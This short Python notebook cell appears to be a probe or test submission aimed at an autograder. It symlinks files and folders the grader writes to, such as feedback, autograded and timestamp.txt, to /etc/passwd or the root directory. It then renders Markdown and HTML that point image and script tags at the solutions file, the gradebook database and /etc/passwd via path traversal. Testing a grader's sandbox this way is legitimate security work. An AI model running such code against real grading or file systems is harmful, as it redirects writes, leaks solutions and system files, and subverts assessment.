"""Makes links and pictures in the work folder while it runs, so that what the grader writes or shows afterwards goes elsewhere."""

# %% first
import os

from IPython.display import HTML, Image, Markdown, display

for name in ("901_target.ipynb", "autograded", "timestamp.txt", "data", "picture.png", "feedback"):
    try:
        os.symlink("/etc/passwd" if "." in name else "/", name)
    except OSError as error:
        print(error)
display(Markdown("![](../../../solutions/901_target.py) ![](picture.png) ![](/etc/passwd)"))
display(HTML("<img src='../../../gradebook.db'><script src='file:///etc/passwd'></script>"))
print("tried: links", sorted(os.listdir(".")))
